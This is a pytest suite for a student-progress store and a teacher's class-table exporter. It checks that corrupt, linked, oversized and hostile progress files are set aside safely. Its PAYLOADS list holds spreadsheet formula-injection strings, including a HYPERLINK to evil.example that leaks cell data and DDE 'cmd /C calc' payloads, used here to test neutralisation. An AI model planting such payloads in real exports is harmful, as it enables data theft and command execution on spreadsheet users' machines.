"""Hostile and damaged progress files, for the student and for the teacher's class table.

Each case asserts the outcome: nothing lost (good answers still there, bad bytes kept in a
side file), a message in the notebook's language, no traceback, `collect` still writes its
table, no cell a spreadsheet would run, a FIFO never hangs, a link is never credited, two
writers without fcntl lose nothing, a held lock gives a message instead of a hang.
"""

from __future__ import annotations

import csv
import html
import json
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import filelock
import pytest

import lessons as L
import lessons.core.config as config
from lessons.core.text import t
from lessons.exercises import progress
from lessons.exercises.progress import ProgressStore, class_table, progress_path

from conftest import REPO

GOOD = {
    "00.1": {
        "lesson": "00",
        "kind": "choice",
        "answer": "tkm",
        "correct": True,
        "attempts": 2,
        "first_at": "2026-01-01T00:00:00+00:00",
        "last_at": "2026-01-01T00:01:00+00:00",
        "solved_at": "2026-01-01T00:01:00+00:00",
    },
    "00.3": {
        "lesson": "00",
        "kind": "choice",
        "answer": "teacher",
        "correct": False,
        "attempts": 1,
        "first_at": "2026-01-01T00:00:00+00:00",
        "last_at": "2026-01-01T00:00:00+00:00",
    },
}


def _progress(answers: dict, **top) -> dict:
    return {"version": 1, "student": "an", "answers": answers, **top}


def _json(data) -> bytes:
    return json.dumps(data, ensure_ascii=False, indent=1).encode("utf-8")


def _fixed(text: str) -> str:
    """The longest part of a message between placeholders: what shows that it is in this language."""
    pieces = re.split(r"\{[^}]*\}", text)
    return html.escape(max(pieces, key=len).strip(" ,.:;()"))


@pytest.fixture(params=["vi", "en"])
def lang(request):
    config.set_language(request.param)
    yield request.param
    config.set_language("en")


@pytest.fixture(autouse=True)
def _no_class_names(monkeypatch):
    monkeypatch.delenv("LESSONS_STUDENT", raising=False)
    monkeypatch.delenv("JUPYTERHUB_USER", raising=False)


def _backups(folder: Path) -> list[Path]:
    return sorted(p for p in folder.iterdir() if ".damaged-" in p.name)


# --- 1. a student's own file: every good answer kept, only the bad part set aside ---------


def _entries(bad_entries: dict) -> bytes:
    return _json(_progress({**GOOD, **bad_entries}))


# (name, file bytes, which bad entries go to a side file)
ENTRY_CASES = [
    ("null-entry", _entries({"00.2": None})),
    ("attempts-as-word", _entries({"00.2": {**GOOD["00.3"], "attempts": "two"}})),
    ("attempts-negative", _entries({"00.2": {**GOOD["00.3"], "attempts": -4}})),
    ("attempts-as-list", _entries({"00.2": {**GOOD["00.3"], "attempts": [1, 2]}})),
    ("correct-as-word", _entries({"00.2": {**GOOD["00.3"], "correct": "yes"}})),
    ("lesson-as-number", _entries({"00.2": {**GOOD["00.3"], "lesson": 7}})),
    ("time-as-number", _entries({"00.2": {**GOOD["00.3"], "last_at": 1700000000}})),
    ("entry-is-a-string", _entries({"00.2": "kazan"})),
    ("entry-is-a-list", _entries({"00.2": ["kazan"]})),
]


@pytest.mark.parametrize("name,raw", ENTRY_CASES, ids=[c[0] for c in ENTRY_CASES])
def test_a_bad_entry_is_set_aside_and_every_good_answer_kept(name, raw, lang):
    path = progress_path()
    path.parent.mkdir(parents=True)
    path.write_bytes(raw)
    notice, other = (
        _fixed(t("progress.entries_aside", lang)),
        _fixed(t("progress.entries_aside", "en" if lang == "vi" else "vi")),
    )
    ex = L.exercise("00.1")  # no traceback; the saved answer is shown again, with the notice
    assert ex.radio.value == "tkm"
    assert notice in ex.feedback.value and other not in ex.feedback.value
    saved = ProgressStore().all()
    assert saved["00.1"] == GOOD["00.1"] and saved["00.3"] == GOOD["00.3"]  # good answers untouched
    side = _backups(path.parent)
    assert len(side) == 1  # the bad entry, as it was, in a side file
    assert json.loads(side[0].read_text(encoding="utf-8"))["answers"] == {"00.2": json.loads(raw)["answers"]["00.2"]}
    # the student can go on answering the damaged exercise
    fb = L.exercise("00.2").answer(["ashgabat", "kazan", "moscow", "tehran"])
    assert fb.correct is True and ProgressStore().get("00.2")["correct"] is True
    assert len(ProgressStore().all()) == 3


WHOLE_CASES = [
    ("not-json", b"{not json at all", "not_json"),
    ("empty-file", b"", "not_json"),
    ("binary-garbage", bytes(range(256)) * 40, "not_text"),
    ("nul-bytes-in-text", b'{"answers": {"00.1": {"answer": "tkm\x00"}}}', "not_text"),
    ("top-level-list", _json([GOOD["00.1"]]), "not_progress"),
    ("top-level-null", b"null", "not_progress"),
    ("answers-is-a-list", _json({"version": 1, "answers": [GOOD["00.1"]]}), "not_progress"),
    ("no-answers", _json({"version": 1, "student": "an"}), "not_progress"),
    ("deeply-nested", b"[" * 100_000 + b"]" * 100_000, "not_json"),
    ("latin-1-bytes", '{"answers": {"00.1": {"answer": "café"}}}'.encode("latin-1"), "not_text"),
]


@pytest.mark.parametrize("name,raw,why", WHOLE_CASES, ids=[c[0] for c in WHOLE_CASES])
def test_an_unreadable_file_is_moved_aside_byte_for_byte(name, raw, why, lang):
    path = progress_path()
    path.parent.mkdir(parents=True)
    path.write_bytes(raw)
    ex = L.exercise("00.1")
    assert _fixed(t("progress.file_aside", lang)) in ex.feedback.value
    assert html.escape(t(f"progress.why_{why}", lang)) in ex.feedback.value
    fb = ex.answer("tkm")
    assert fb.correct is True
    moved = _backups(path.parent)
    assert len(moved) == 1 and moved[0].read_bytes() == raw  # never deleted, never changed
    assert ProgressStore().get("00.1")["correct"] is True
    # seen after the Check: the next exercise and my_progress no longer repeat it
    assert _fixed(t("progress.file_aside", lang)) in ex.feedback.value
    assert _fixed(t("progress.file_aside", lang)) not in L.exercise("00.3").feedback.value
    assert _fixed(t("progress.file_aside", lang)) not in L.my_progress().data


def test_a_truncated_file_keeps_its_complete_answers(lang):
    whole = _json(_progress({**GOOD, "00.2": {"lesson": "00", "kind": "multi", "answer": ["kazan"], "attempts": 1}}))
    cut = whole[: whole.index(b'"00.2"') + 30]
    path = progress_path()
    path.parent.mkdir(parents=True)
    path.write_bytes(cut)
    answers = ProgressStore().all()
    assert answers == GOOD  # the two complete answers before the cut are recovered
    assert _backups(path.parent)[0].read_bytes() == cut
    page = L.my_progress().data
    assert _fixed(t("progress.file_aside", lang)) in page and html.escape(t("progress.why_not_json", lang)) in page
    assert html.escape(t("progress.recovered", lang, kept=2)) in page


@pytest.mark.parametrize(
    "raw",
    [b"\xef\xbb\xbf" + _json(_progress(GOOD)), json.dumps(_progress(GOOD), ensure_ascii=False).encode("utf-16")],
    ids=["utf8-bom-notepad", "utf16-notepad-unicode"],
)
def test_a_file_saved_by_notepad_is_read_as_it_is(raw):
    path = progress_path()
    path.parent.mkdir(parents=True)
    path.write_bytes(raw)
    assert ProgressStore().all() == GOOD
    assert not _backups(path.parent) and L.exercise("00.1").radio.value == "tkm"
    assert "lessons-progress-notice" not in L.my_progress().data


def test_unknown_fields_are_kept_and_not_reported():
    entry = {**GOOD["00.1"], "device": "tablet", "note": {"from": "a newer course"}}
    path = progress_path()
    path.parent.mkdir(parents=True)
    path.write_bytes(_json(_progress({"00.1": entry}, extra_top={"x": 1})))
    L.exercise("00.3").answer("file")
    saved = json.loads(path.read_text(encoding="utf-8"))
    assert saved["answers"]["00.1"] == entry and saved["extra_top"] == {"x": 1}
    assert not _backups(path.parent)


def test_garbage_in_the_notices_list_is_dropped_not_fatal():
    path = progress_path()
    path.parent.mkdir(parents=True)
    path.write_bytes(
        _json(_progress(GOOD, notices=[None, 5, {"kind": "file", "why": "<script>", "backup": "<b>x</b>"}]))
    )
    page = L.my_progress().data
    assert "<script>" not in page and "<b>x</b>" not in page and html.escape("<b>x</b>") in page  # shown as text
    assert ProgressStore().all() == GOOD


def test_a_huge_file_is_moved_aside_not_read(monkeypatch, lang):
    monkeypatch.setattr(progress, "MAX_FILE_BYTES", 4096)
    raw = _json(_progress({**GOOD, "00.4": {"kind": "short", "answer": "lời " * 5000, "attempts": 1}}))
    path = progress_path()
    path.parent.mkdir(parents=True)
    path.write_bytes(raw)
    ex = L.exercise("00.1")
    assert html.escape(t("progress.why_too_large", lang)) in ex.feedback.value
    assert _backups(path.parent)[0].read_bytes() == raw
    assert ex.answer("tkm").correct is True


def test_a_folder_named_progress_json_is_moved_aside(lang):
    path = progress_path()
    (path / "inside").mkdir(parents=True)
    (path / "inside" / "keep.txt").write_text("mine")
    ex = L.exercise("00.1")
    assert html.escape(t("progress.why_not_file", lang)) in ex.feedback.value
    assert ex.answer("tkm").correct is True and path.is_file()
    assert (_backups(path.parent)[0] / "inside" / "keep.txt").read_text() == "mine"


def _in_child(code: str, timeout: float = 20) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        timeout=timeout,
        env={**os.environ, "PYTHONPATH": str(REPO)},
        cwd=REPO,
    )


def test_a_fifo_named_progress_json_does_not_hang_the_exercise(tmp_path):
    folder = tmp_path / "fifo-home"
    folder.mkdir()
    os.mkfifo(folder / "progress.json")
    code = (
        f"import os; os.environ['LESSONS_PROGRESS_DIR']={str(folder)!r}\n"
        "import lessons as L\nL.setup('en') if hasattr(L, 'setup') else None\n"
        "ex = L.exercise('00.1'); fb = ex.answer('tkm'); print(fb.correct, 'moved aside' in ex.feedback.value)"
    )
    result = _in_child(code)  # a blocking open of the FIFO would hang here until the timeout
    assert result.returncode == 0, result.stderr[-2000:]
    assert result.stdout.split()[-2:] == ["True", "True"]
    assert (folder / "progress.json").is_file()
    assert any(p.is_fifo() for p in folder.iterdir())  # the FIFO itself is kept, renamed


def test_a_link_to_another_students_file_is_not_followed(tmp_path, lang):
    other = tmp_path / "binh" / "progress.json"
    other.parent.mkdir()
    other.write_bytes(_json({"version": 1, "student": "bình", "answers": GOOD}))
    before = other.read_bytes()
    path = progress_path()
    path.parent.mkdir(parents=True)
    path.symlink_to(other)
    ex = L.exercise("00.1")
    assert ex.radio.value != "tkm"  # bình's answer is not shown as ours
    assert "restored" not in ex.feedback.value and html.escape(t("progress.why_not_file", lang)) in ex.feedback.value
    ex.answer("irn")
    assert other.read_bytes() == before  # the other file is never written
    assert path.is_file() and not path.is_symlink()
    assert any(p.is_symlink() for p in _backups(path.parent))


def test_the_notice_shows_on_every_exercise_until_seen_in_my_progress(lang):
    path = progress_path()
    path.parent.mkdir(parents=True)
    path.write_bytes(_entries({"00.2": None}))
    marker = _fixed(t("progress.entries_aside", lang))
    for ex_id in ("00.1", "00.3", "01.1"):  # not only on the first exercise built
        assert marker in L.exercise(ex_id).feedback.value, ex_id
    assert marker in L.my_progress().data
    assert marker not in L.my_progress().data  # seen: shown once there
    assert marker not in L.exercise("00.3").feedback.value
    assert json.loads(path.read_text(encoding="utf-8"))["notices"][0]["seen"] is True


def test_an_unrestorable_saved_answer_does_not_break_the_exercise():
    path = progress_path()
    path.parent.mkdir(parents=True)
    path.write_bytes(
        _json(
            _progress(
                {
                    "00.1": {**GOOD["00.1"], "answer": {"weird": [1, 2]}},
                    "00.2": {**GOOD["00.3"], "kind": "multi", "answer": 12345},
                }
            )
        )
    )
    for ex_id in ("00.1", "00.2"):
        ex = L.exercise(ex_id)  # built, no traceback
        assert "Traceback" not in ex.feedback.value
    assert ProgressStore().get("00.1")["answer"] == {"weird": [1, 2]}  # still in the file


# --- 2. the lock: two writers without fcntl lose nothing; a held lock gives a message -------

WRITER = r"""
import sys, filelock
from lessons.exercises import progress
if sys.argv[3] == "soft":
    progress.LockClass = filelock.SoftFileLock  # the path without fcntl/msvcrt
store = progress.ProgressStore(sys.argv[1])
for i in range(150):
    store.record(f"{sys.argv[2]}.{i}", lesson="01", kind="choice", answer="x", correct=True)
"""


@pytest.mark.parametrize("lock", ["soft", "native"])
def test_two_writers_at_once_lose_no_answer(tmp_path, lock):
    path = tmp_path / "progress.json"
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    writers = [
        subprocess.Popen(
            [sys.executable, "-c", WRITER, str(path), name, lock], env=env, stderr=subprocess.PIPE, text=True
        )
        for name in ("a", "b")
    ]
    for w in writers:
        assert w.wait(timeout=120) == 0, w.stderr.read()[-2000:]
    answers = ProgressStore(path).all()
    assert len(answers) == 300  # 2 writers x 150 answers, none lost
    assert not _backups(tmp_path)


HOLDER = r"""
import sys, time, filelock
lock = getattr(filelock, sys.argv[2])(sys.argv[1])
lock.acquire()
print("held", flush=True)
time.sleep(60)
"""


def _hold_lock(path: Path, kind: str = "FileLock") -> subprocess.Popen:
    path.parent.mkdir(parents=True, exist_ok=True)
    proc = subprocess.Popen(
        [sys.executable, "-c", HOLDER, str(path.with_name(path.name + ".lock")), kind],
        stdout=subprocess.PIPE,
        text=True,
    )
    assert proc.stdout.readline().strip() == "held"
    return proc


def test_a_held_lock_gives_a_message_and_the_next_check_saves(monkeypatch, lang):
    monkeypatch.setattr(progress, "LOCK_TIMEOUT", 2.5)
    monkeypatch.setattr(progress, "READ_LOCK_TIMEOUT", 0.3)
    holder = _hold_lock(progress_path())
    try:
        started = time.monotonic()
        ex = L.exercise("00.1")  # does not hang: says the file is in use
        assert time.monotonic() - started < 2  # showing answers waits less than a save
        assert _fixed(t("progress.busy_read", lang)) in ex.feedback.value
        ex.radio.value = "tkm"
        ex.button.click()
        assert time.monotonic() - started < 8
        assert _fixed(t("progress.busy", lang)) in ex.feedback.value
        assert ex.radio.value == "tkm"  # the answer stays on screen
        assert _fixed(t("progress.busy_read", lang)) in L.my_progress().data
    finally:
        holder.kill()
        holder.wait()
    ex.button.click()  # the next Check saves it
    assert ProgressStore().get("00.1")["answer"] == "tkm"


def test_a_soft_lock_left_by_a_killed_kernel_does_not_block_forever(monkeypatch):
    monkeypatch.setattr(progress, "LockClass", filelock.SoftFileLock)
    monkeypatch.setattr(progress, "LOCK_TIMEOUT", 5)
    holder = _hold_lock(progress_path(), "SoftFileLock")
    os.kill(holder.pid, signal.SIGKILL)
    holder.wait()
    assert progress_path().with_name("progress.json.lock").exists()  # the stale marker is there
    entry = ProgressStore().record("00.1", lesson="00", kind="choice", answer="tkm", correct=True)
    assert entry["attempts"] == 1


# --- 3. where the file is, and whose it is ---------------------------------------------------


@pytest.mark.parametrize(
    "setting,expected",
    [
        ("course-progress", "{home}/course-progress"),
        ("~/elsewhere", "{home}/elsewhere"),
        ("{tmp}/absolute", "{tmp}/absolute"),
        ("", "{home}/.iran-russia-course"),
    ],
)
def test_the_progress_folder_is_taken_from_home_not_the_notebook_folder(setting, expected, tmp_path, monkeypatch):
    home, notebook_folder = tmp_path / "home", tmp_path / "notebooks" / "vi"
    home.mkdir()
    notebook_folder.mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(notebook_folder)
    monkeypatch.setenv("LESSONS_PROGRESS_DIR", setting.format(tmp=tmp_path))
    assert progress_path() == Path(expected.format(home=home, tmp=tmp_path)) / "progress.json"
    L.exercise("00.1").answer("tkm")
    assert progress_path().is_file() and not list(notebook_folder.iterdir())


def test_without_a_name_the_machine_login_is_never_recorded(lang):
    L.exercise("00.1").answer("tkm")
    saved = json.loads(progress_path().read_text(encoding="utf-8"))
    assert saved["student"] == "" and saved["student"] != progress._machine_login()
    assert _fixed(t("progress.name_ask", lang)) in L.my_progress().data


def test_an_old_file_recorded_under_the_machine_login_forgets_it():
    path = progress_path()
    path.parent.mkdir(parents=True)
    path.write_bytes(_json({"version": 1, "student": progress._machine_login(), "answers": GOOD}))
    L.exercise("00.3").answer("file")
    assert json.loads(path.read_text(encoding="utf-8"))["student"] == ""


def test_a_name_given_once_is_remembered_and_goes_to_the_class_table(tmp_path, lang):
    page = L.my_progress(name="  Nguye\u0302\u0303n Văn\n  A ").data  # decomposed ễ (NFD), extra spaces
    assert html.escape(t("progress.name_saved", lang, name="Nguyễn Văn A")) in page
    L.exercise("00.1").answer("tkm")
    assert progress.student_name() == "Nguyễn Văn A"
    assert html.escape(t("progress.name", lang, name="Nguyễn Văn A")) in L.my_progress().data
    wide, _, problems = class_table([progress_path().parent], ["00.1"])
    assert list(wide["student"]) == ["Nguyễn Văn A"] and not problems


def test_the_hub_login_wins_over_a_given_name(monkeypatch, lang):
    monkeypatch.setenv("JUPYTERHUB_USER", "an.nguyen")
    page = L.my_progress(name="Someone Else").data
    assert html.escape(t("progress.name_class", lang, name="an.nguyen")) in page
    L.exercise("00.1").answer("tkm")
    saved = json.loads(progress_path().read_text(encoding="utf-8"))
    assert saved["student"] == "an.nguyen" and saved["student_given"] == "Someone Else"


@pytest.mark.parametrize("bad", ["", "   ", "An\x00B", "x" * 101, "A\x1b[2J", "\u200b"])
def test_a_name_that_cannot_be_one_gets_a_message(bad, lang):
    page = L.my_progress(name=bad).data
    assert _fixed(t("progress.name_bad", lang)) in page and "Traceback" not in page
    assert not progress_path().exists() or "student_given" not in json.loads(
        progress_path().read_text(encoding="utf-8")
    )


def test_a_name_that_is_not_text_is_refused_by_the_call_itself(lang):
    with pytest.raises(L.CourseError) as err:
        L.my_progress(name=42)
    assert "“name”" in str(err.value) and ("gọi" in str(err.value).lower()) == (lang == "vi")
    assert not progress_path().exists() or "student_given" not in json.loads(
        progress_path().read_text(encoding="utf-8")
    )


# --- 4. the teacher's class table from hostile files -----------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


def _collect(folder: Path, tmp_path: Path, timeout: float = 60) -> tuple[subprocess.CompletedProcess, Path, Path]:
    wide, long = tmp_path / "class.csv", tmp_path / "answers.csv"
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "lessons.tools.collect",
            str(folder),
            "-o",
            str(wide),
            "--long",
            str(long),
        ],
        capture_output=True,
        text=True,
        cwd=REPO,
        timeout=timeout,
        env={**os.environ, "PYTHONPATH": str(REPO)},
    )
    return result, wide, long


def _cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def _student_file(folder: Path, who: str, data: dict | bytes) -> Path:
    path = folder / who / "progress.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else _json(data))
    return path


@pytest.mark.parametrize("payload", PAYLOADS, ids=["hyperlink", "plus-dde", "minus", "at", "tab", "cr", "fullwidth"])
def test_collect_writes_no_cell_a_spreadsheet_would_run(payload, tmp_path):
    folder = tmp_path / "class"
    _student_file(
        folder,
        "an",
        {
            "version": 1,
            "student": payload,
            "answers": {
                "00.4": {"lesson": payload, "kind": payload, "answer": payload, "attempts": 1},
                payload: {"answer": payload, "kind": "short", "attempts": 1},
            },
        },
    )
    result, wide, long = _collect(folder, tmp_path)
    assert result.returncode == 0 and "Traceback" not in result.stderr
    for table in (wide, long):
        cells = [c for row in _cells(table) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d")], table.name
    text = "'" + payload.replace("\r", "\n")  # a lone CR would start a new row in a spreadsheet
    assert text in [c for row in _cells(long) for c in row]  # the answer is kept, as text
    assert _cells(wide)[1][0] in (text, "'" + payload.strip())  # the student's name too
    assert len(_cells(long)) == 3 and len(_cells(wide)) == 2  # no cell broke a row in two


@pytest.mark.parametrize("control", ["\u202e", "\u2066", "\u200f", "\u061c"])
def test_collect_drops_direction_controls_that_would_show_a_name_reversed(control, tmp_path):
    folder = tmp_path / "class"
    _student_file(
        folder,
        "an",
        {
            "version": 1,
            "student": f"{control}=cmd An",
            "answers": {"00.4": {"lesson": "00", "kind": "short", "answer": f"a{control}b", "attempts": 1}},
        },
    )
    result, wide, long = _collect(folder, tmp_path)
    assert result.returncode == 0
    cells = [c for table in (wide, long) for row in _cells(table) for c in row]
    assert not [c for c in cells if control in c]
    assert "'=cmd An" in cells and "ab" in cells  # what is left is kept, as text


def test_a_fifo_in_the_class_folder_does_not_hang_collect(tmp_path):
    folder = tmp_path / "class"
    _student_file(folder, "an", _progress(GOOD))
    (folder / "binh").mkdir()
    os.mkfifo(folder / "binh" / "progress.json")
    result, wide, _ = _collect(folder, tmp_path, timeout=30)
    assert result.returncode == 0
    assert "binh" in result.stderr and "not an ordinary file (fifo)" in result.stderr
    assert [r[0] for r in _cells(wide)[1:]] == ["an"]


def test_a_link_to_another_students_file_is_reported_and_not_credited(tmp_path):
    folder = tmp_path / "class"
    real = _student_file(folder, "an", {"version": 1, "student": "", "answers": GOOD})
    (folder / "cheat").mkdir()
    (folder / "cheat" / "progress.json").symlink_to(real)
    result, wide, long = _collect(folder, tmp_path)
    assert result.returncode == 0
    assert "cheat" in result.stderr and "is a link" in result.stderr
    students = [r[0] for r in _cells(wide)[1:]]
    assert students == ["an"]
    assert all(r[0] != "cheat" for r in _cells(long)[1:])


def test_a_linked_course_folder_is_not_followed(tmp_path):
    folder = tmp_path / "home"
    real = _student_file(folder, "an", _progress(GOOD))
    (folder / "cheat").mkdir()
    (folder / "cheat" / ".iran-russia-course").symlink_to(real.parent, target_is_directory=True)
    wide, _, problems = class_table([folder], ["00.1"])
    assert list(wide["file"]) == [str(real)]
    assert any("cheat" in p and "link" in p for p in problems)


def test_one_bad_file_never_stops_the_class_table(tmp_path):
    folder = tmp_path / "class"
    _student_file(folder, "an", _progress(GOOD))
    _student_file(folder, "binh", bytes(range(256)))
    _student_file(
        folder, "chi", {"version": 1, "student": "chi", "answers": {**GOOD, "00.2": None, "00.4": {"attempts": "two"}}}
    )
    _student_file(folder, "dung", b"null")
    (folder / "em" / "progress.json").mkdir(parents=True)
    result, wide, long = _collect(folder, tmp_path)
    assert result.returncode == 0 and "Traceback" not in result.stderr
    rows = {r[0]: r for r in _cells(wide)[1:]}
    assert sorted(rows) == ["an", "chi"]
    assert "'00.2' skipped" in result.stderr and "'00.4' repaired" in result.stderr
    for who in ("binh", "dung", "em"):
        assert f"{who}/progress.json" in result.stderr


def test_two_files_claiming_one_student_are_both_reported(tmp_path):
    folder = tmp_path / "class"
    _student_file(folder, "an", _progress(GOOD))
    _student_file(folder, "impostor", _progress({"00.1": GOOD["00.1"]}))
    wide, _, problems = class_table([folder], ["00.1", "00.3"])
    assert len(wide) == 2 and list(wide["student"]) == ["an", "an"]
    assert any("claimed by 2 files" in p and "impostor" in p for p in problems)


def test_a_huge_file_is_skipped_without_being_read(tmp_path):
    folder = tmp_path / "class"
    _student_file(folder, "an", _progress(GOOD))
    huge = folder / "big" / "progress.json"
    huge.parent.mkdir()
    with open(huge, "wb") as f:
        f.truncate(progress.MAX_FILE_BYTES + 1)  # sparse: instant to make
    result, wide, _ = _collect(folder, tmp_path)
    assert result.returncode == 0 and "big" in result.stderr and "larger than" in result.stderr
    assert [r[0] for r in _cells(wide)[1:]] == ["an"]


def test_a_truncated_students_file_is_credited_for_its_complete_answers(tmp_path):
    whole = _json({"version": 1, "student": "an", "answers": {**GOOD, "00.2": {"answer": ["kazan"], "attempts": 1}}})
    _student_file(tmp_path / "class", "an", whole[: whole.index(b'"00.2"') + 20])
    wide, _, problems = class_table([tmp_path / "class"], ["00.1", "00.2", "00.3"])
    row = wide.iloc[0]
    assert row["00.1"] == "done" and row["00.3"] == "tried" and row["00.2"] == "todo"
    assert any("2 complete answers recovered" in p for p in problems)


def test_a_hostile_file_name_cannot_write_to_the_teachers_terminal(tmp_path):
    folder = tmp_path / "class"
    _student_file(folder, "an\x1b[2J\nfake: all fine", b"garbage")
    _student_file(folder, "binh", _progress(GOOD))
    result, _, _ = _collect(folder, tmp_path)
    assert result.returncode == 0 and "\x1b" not in result.stderr and "\\x1b" in result.stderr
    assert not any(line.startswith("fake: all fine") for line in result.stderr.splitlines())


def test_a_folder_that_cannot_hold_the_file_is_explained_in_the_notebooks_language(tmp_path, monkeypatch, lang):
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    monkeypatch.setenv("LESSONS_PROGRESS_DIR", str(blocker / "sub"))
    ex = L.exercise("00.1")
    assert ex.answer("tkm").correct is True  # judged, even though it cannot be saved
    assert html.escape(t("progress.err_not_folder", lang)) in ex.feedback.value
    page = L.my_progress().data
    assert html.escape(t("progress.err_not_folder", lang)) in page and "Errno" not in page + ex.feedback.value


def test_a_full_disk_while_setting_aside_changes_nothing_and_says_so(monkeypatch, lang):
    import errno

    raw = _entries({"00.2": None})
    path = progress_path()
    path.parent.mkdir(parents=True)
    path.write_bytes(raw)

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(progress, "_atomic_write", full)
    ex = L.exercise("00.1")
    assert ex.radio.value == "tkm"  # the good answers are still shown
    ex.answer("tkm")
    assert html.escape(t("progress.err_full", lang)) in ex.feedback.value and "space left" not in ex.feedback.value
    assert " 1/4<" in L.my_progress().data  # lesson 00: 00.1 done
    assert path.read_bytes() == raw and not _backups(path.parent)  # the file is exactly as it was


def test_a_hard_link_to_another_students_file_is_not_credited_twice(tmp_path):
    folder = tmp_path / "class"
    real = _student_file(folder, "an", {"version": 1, "student": "an", "answers": GOOD})
    (folder / "cheat").mkdir()
    os.link(real, folder / "cheat" / "progress.json")
    wide, long, problems = class_table([folder], ["00.1"])
    assert list(wide["file"]) == [str(real)] and len(long) == len(GOOD)
    assert any("cheat" in p and "hard link" in p for p in problems)


def test_the_hub_command_does_not_follow_a_students_linked_course_folder(tmp_path):
    homes = tmp_path / "home"
    real = _student_file(homes / "binh", ".iran-russia-course", {"version": 1, "student": "", "answers": GOOD})
    (homes / "an").mkdir()
    (homes / "an" / ".iran-russia-course").symlink_to(real.parent, target_is_directory=True)
    named = sorted(homes.glob("*/.iran-russia-course"))  # what the shell makes of /home/*/.iran-russia-course
    wide, _, problems = class_table(named, ["00.1"])
    assert list(wide["student"]) == ["binh"]
    assert any("/an/" in p and "link" in p for p in problems)


@pytest.mark.parametrize("folder_name", ["=1+1", "+SUM(A1)", "@cmd"])
def test_a_student_named_after_a_hostile_folder_is_neutralised(folder_name, tmp_path):
    folder = tmp_path / "class"
    _student_file(folder, folder_name, {"version": 1, "student": "", "answers": GOOD})
    result, wide, _ = _collect(folder, tmp_path)
    assert result.returncode == 0
    assert _cells(wide)[1][0] == "'" + folder_name


@pytest.mark.parametrize("attempts,kept", [("3", 3), (3.0, 3), (True, 1)], ids=["digits-as-text", "float", "bool"])
def test_an_attempt_count_of_another_type_is_repaired_and_the_original_kept(attempts, kept):
    path = progress_path()
    path.parent.mkdir(parents=True)
    path.write_bytes(_entries({"00.2": {**GOOD["00.3"], "attempts": attempts}}))
    assert ProgressStore().get("00.2")["attempts"] == kept
    side = json.loads(_backups(path.parent)[0].read_text(encoding="utf-8"))
    assert side["answers"]["00.2"]["attempts"] == attempts and type(side["answers"]["00.2"]["attempts"]) is type(
        attempts
    )
    entry = ProgressStore().record("00.2", lesson="00", kind="multi", answer=["kazan"], correct=False)
    assert entry["attempts"] == kept + 1


@pytest.mark.parametrize("target", ["/dev/zero", "missing-file", "progress.json"], ids=["device", "dangling", "loop"])
def test_a_link_to_a_device_nowhere_or_itself_never_hangs_or_breaks(target, tmp_path):
    path = progress_path()
    path.parent.mkdir(parents=True)
    path.symlink_to(target)
    code = (
        f"import os; os.environ['LESSONS_PROGRESS_DIR']={str(path.parent)!r}\n"
        "import lessons as L\nex = L.exercise('00.1'); print(ex.answer('tkm').correct)"
    )
    result = _in_child(code)  # reading /dev/zero through the link would never end
    assert result.returncode == 0 and result.stdout.split()[-1] == "True", result.stderr[-2000:]
    assert path.is_file() and not path.is_symlink()
    assert [os.readlink(p) for p in _backups(path.parent)] == [target]  # the link itself is kept
    folder = tmp_path / "class"
    (folder / "x").mkdir(parents=True)
    (folder / "x" / "progress.json").symlink_to(target)
    _student_file(folder, "an", _progress(GOOD))
    result, wide, _ = _collect(folder, tmp_path, timeout=30)
    assert result.returncode == 0 and "x/progress.json: is a link" in result.stderr
    assert [r[0] for r in _cells(wide)[1:]] == ["an"]
